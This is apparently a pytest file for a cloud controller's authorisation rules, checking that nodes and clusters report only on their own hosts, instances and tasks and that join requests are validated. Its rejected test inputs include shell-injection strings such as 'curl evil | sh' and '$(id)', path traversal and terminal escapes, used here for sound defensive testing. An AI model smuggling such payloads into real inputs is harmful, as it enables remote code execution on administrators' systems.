"""A signature proves who speaks; what it may speak about is judged as well, at the CC and at the CLC."""

from __future__ import annotations

from types import SimpleNamespace

import pytest
from cryptography.hazmat.primitives.asymmetric.ed25519 import Ed25519PrivateKey

from cc import role as cc_role
from cc.services import children
from cc.services import mandates as cc_mandates
from clc import role as clc_role
from clc.services import hosts, mandates
from luhyaapi import clock
from luhyaapi.contracts.base import Envelope, Report
from luhyaapi.contracts.reports import (
    AccessFacts,
    Hello,
    HostFacts,
    InstanceFacts,
    JoinAsked,
    Outcome,
    PlacementFacts,
    Progress,
    TaskSteps,
)
from luhyaapi.contracts.specs import StepFacts
from luhyaapi.contracts.vocabulary import InstanceState, Role
from luhyaapi.errors import Refused
from luhyaapi.wire import identity
from luhyadb import memory
from luhyadb.models import FlowRun, Placement, Task

MINE, OTHER = "nc-0000000a", "nc-0000000b"
ONE, TWO, TASK = "ins-00000001", "ins-00000002", "tsk-00000001"
ORDER = f"{TASK}#boot.0"
CSR, ANOTHER = (identity.request(Ed25519PrivateKey.generate(), "new") for _ in range(2))
NO_TOKEN = "0" * 64


def _envelope(report: Report, sender: str) -> Envelope:
    return Envelope(
        id="x", kind=report.kind, sender=sender, to="cc-00000001", subject=report.subject, issued_at=0, expires_at=4e9,
        deadline=4e9, body=report.model_dump_json(),
    )


def _at_cc(report: Report, sender: str = MINE) -> str:
    return _code(cc_mandates, report, sender)


def _at_clc(report: Report, sender: str) -> str:
    return _code(mandates, report, sender)


def _code(where, report: Report, sender: str) -> str:
    try:
        where.judge(_envelope(report, sender), report)
    except Refused as e:
        return e.code
    return ""


def _hello(host: str, role: Role = Role.NC, **more: str) -> Hello:
    return Hello(host=host, role=role, version="1", boot="b", **({"name": "n"} | more))


def _facts(instance: str, node: str = "", state: InstanceState = InstanceState.RUNNING) -> InstanceFacts:
    return InstanceFacts(instance=instance, state=state, node=node)


@pytest.fixture
def cluster(db):
    """One instance on each of two nodes, and a step that waits for the other node."""
    with memory.of("cc"):
        for instance, node in ((ONE, MINE), (TWO, OTHER)):
            Placement.objects.create(instance=instance, node=node, spec={}, cpus=1, memory_mib=1)
        FlowRun.objects.create(
            command=f"{TASK}#0.0", task=TASK, kind="instance/run", instance=TWO, envelope="{}", deadline=4e9, waiting=ORDER,
            facts={"at": OTHER},
        )
        yield


def test_at_a_cluster_a_node_speaks_of_itself_alone(cluster) -> None:
    assert [_at_cc(r) for r in (_hello(MINE), _hello(OTHER), _hello(MINE, Role.SC))] == ["", "forbidden", "forbidden"]
    assert [_at_cc(HostFacts(host=h, at=1)) for h in (MINE, OTHER)] == ["", "forbidden"]


def test_at_a_cluster_a_node_speaks_of_its_own_guests(cluster) -> None:
    reports = (_facts(ONE, MINE), _facts(ONE), _facts(TWO, MINE), _facts(TWO, OTHER), _facts(ONE, OTHER), _facts("ins-000000ff"))
    assert [_at_cc(r) for r in reports] == ["", "", "forbidden", "forbidden", "forbidden", "not_found"]


def test_at_a_cluster_an_order_is_ended_by_whom_it_was_given_to(cluster) -> None:
    ended = Outcome(command=ORDER, task=TASK)
    assert [_at_cc(ended, s) for s in (OTHER, MINE)] == ["", "forbidden"]
    assert _at_cc(Outcome(command=f"{TASK}#halt.0", task=TASK)) == "not_found"
    moved = Progress(command=ORDER, task=TASK, phase="boot")
    assert [_at_cc(moved, s) for s in (OTHER, MINE)] == ["", "forbidden"]
    assert _at_cc(moved.model_copy(update={"task": "tsk-000000ff"}), OTHER) == "forbidden"


@pytest.mark.parametrize("report", [
    TaskSteps(task=TASK, steps=(StepFacts(step="boot", state="done"),)),
    PlacementFacts(instance=ONE, task=TASK, node=MINE, fence=1), AccessFacts(instance=ONE, number=1),
    JoinAsked(request="r" * 24, role=Role.NC, name="x", csr="x", proof=NO_TOKEN),
], ids=lambda r: r.kind)
def test_what_only_a_cluster_says_no_node_says(cluster, report) -> None:
    assert _at_cc(report) == "forbidden"


@pytest.fixture
def cloud(world, admin):
    """Two clusters with a node each; an instance and its task in the first."""
    walrus, cc, nc = world.cluster()
    there = world.host("cc", "there")
    away = world.host("nc", "away", boss=there.id)
    row = world.instance(admin, world.image(admin))
    cluster = {cc.id: (cc, nc), there.id: (there, away)}
    mine = cluster.pop(row.cluster)
    (foreign,) = cluster.values()
    return SimpleNamespace(walrus=walrus.id, cc=mine[0].id, nc=mine[1].id, cc2=foreign[0].id, nc2=foreign[1].id, row=row,
                           task=Task.objects.get(pk=row.task))


def test_at_the_clc_a_host_speaks_of_itself_alone(cloud) -> None:
    assert _at_clc(_hello(cloud.nc), cloud.nc) == ""
    assert _at_clc(_hello(cloud.walrus, Role.WALRUS, address="http://evil"), cloud.nc) == "forbidden"
    assert _at_clc(_hello(cloud.nc, name="a\x1b[2Jb"), cloud.nc) == "invalid"
    assert _at_clc(HostFacts(host=cloud.walrus, at=1), cloud.cc) == "forbidden"


@pytest.mark.parametrize(("address", "code"), [
    ("http://10.0.0.1:8603", ""), ("https://[fd00::1]:8603", ""), ("", ""), ("http://x; curl evil | sh #", "invalid"),
    ("http://x$(id)", "invalid"), ("http://a\n", "invalid"), ("http://a/?q=", "invalid"), ("http://" + "a" * 91, "invalid"),
])
def test_an_address_is_one_and_nothing_an_administrators_shell_would_run(cloud, address: str, code: str) -> None:
    assert _at_clc(_hello(cloud.cc, Role.CC, address=address), cloud.cc) == code
    assert _at_clc(_asked(address=address), cloud.cc) == code


def test_at_the_clc_a_cluster_speaks_of_its_own_instances(cloud) -> None:
    one = cloud.row.pk
    assert [_at_clc(_facts(one), s) for s in (cloud.nc, cloud.nc2, cloud.walrus)] == ["", "forbidden", "forbidden"]
    assert _at_clc(_facts(one, cloud.nc2), cloud.nc) == "forbidden"
    assert _at_clc(_facts("ins-000000ff"), cloud.nc) == "not_found"
    placed = PlacementFacts(instance=one, task=cloud.task.pk, node=cloud.nc, fence=1)
    assert [_at_clc(placed, s) for s in (cloud.cc, cloud.cc2, cloud.nc)] == ["", "forbidden", "forbidden"]
    assert _at_clc(placed.model_copy(update={"node": cloud.nc2}), cloud.cc) == "forbidden"
    reached = AccessFacts(instance=one, number=1)
    assert [_at_clc(reached, s) for s in (cloud.cc, cloud.cc2, cloud.nc)] == ["", "forbidden", "forbidden"]
    assert _at_clc(placed.model_copy(update={"node": ""}), cloud.cc) == ""
    ended = Outcome(command=cloud.task.command, task=cloud.task.pk, place=placed)
    assert _at_clc(ended, cloud.cc) == ""
    assert _at_clc(ended.model_copy(update={"place": placed.model_copy(update={"node": cloud.nc2})}), cloud.cc) == "forbidden"


def test_at_the_clc_a_task_is_told_by_whom_its_order_was_given_to(cloud) -> None:
    everybody = (cloud.cc, cloud.cc2, cloud.walrus, cloud.nc)
    ended = Outcome(command=cloud.task.command, task=cloud.task.pk)
    assert [_at_clc(ended, s) for s in everybody] == ["", "forbidden", "forbidden", "forbidden"]
    step = TaskSteps(task=cloud.task.pk, steps=(StepFacts(step="boot", state="done", note="<b>"),))
    assert [_at_clc(step, s) for s in everybody] == ["", "forbidden", "forbidden", "forbidden"]
    moved = Progress(command="c", task=cloud.task.pk, phase="boot")
    assert [_at_clc(moved, s) for s in (*everybody, cloud.nc2)] == ["", "forbidden", "forbidden", "", "forbidden"]
    assert _at_clc(moved.model_copy(update={"task": "tsk-000000ff"}), cloud.cc) == "not_found"


def _asked(request: str = "r" * 24, **more: str) -> JoinAsked:
    return JoinAsked(**{"request": request, "role": "nc", "name": "new", "csr": CSR, "proof": NO_TOKEN} | more)


def test_asking_to_join_has_limits(cloud, world, monkeypatch) -> None:
    assert _at_clc(_asked(), cloud.cc) == ""
    assert [_at_clc(_asked(name=n), cloud.cc) for n in ("a b", "a\n", "-o", "", "n" * 64)] == ["invalid"] * 5
    assert _at_clc(_asked(csr="x" * 9000), cloud.cc) == "invalid"
    world.host("nc", state="new", boss=cloud.cc, request="r" * 24, csr=CSR)
    assert _at_clc(_asked(), cloud.cc) == ""
    assert [_at_clc(_asked(csr=ANOTHER), cloud.cc), _at_clc(_asked(), cloud.cc2)] == ["forbidden", "forbidden"]
    monkeypatch.setattr(mandates, "WAITING_AT_MOST", 1)
    assert [_at_clc(_asked("s" * 24), s) for s in (cloud.cc, cloud.cc2)] == ["quota", ""]
    token, _ = hosts.make_token(None, "nc")
    assert _at_clc(_asked("s" * 24, proof=hosts.proof_of(token)), cloud.cc) == ""


def test_both_bosses_judge() -> None:
    assert (cc_role.ROLE.judge, clc_role.ROLE.judge) == (cc_mandates.judge, mandates.judge)


def test_who_never_came_back_blocks_no_door(tmp_path, monkeypatch) -> None:
    said: list[JoinAsked] = []
    office = SimpleNamespace(joins=tmp_path, agent=SimpleNamespace(report=said.append))
    monkeypatch.setattr(children, "_WAITING_AT_MOST", 2)

    def ask(request: str, name: str = "new") -> str:
        try:
            children.ask(office, {"request": request, "role": "nc", "name": name, "csr": "csr", "token": ""}, "127.0.0.1")
        except Refused as e:
            return e.code
        return ""

    a, b, c = (letter * 24 for letter in "abc")
    assert [ask(a), ask(b), ask(a), ask(c)] == ["", "", "", "quota"]
    assert [ask(d) for d in (c + "\n", "../" + c, "short")] == ["invalid"] * 3
    children.refuse(office, a, "no")
    assert ask(c, "bad\nname") == "invalid"
    assert ask(c) == ""
    with pytest.raises(Refused, match="refused this host"):
        children.answer(office, a)
    before = clock.use(clock.ManualClock(clock.now() + 25 * 3600))
    try:
        assert ask("d" * 24) == ""
    finally:
        clock.use(before)
    assert sorted(f.stem for f in tmp_path.iterdir()) == ["d" * 24]
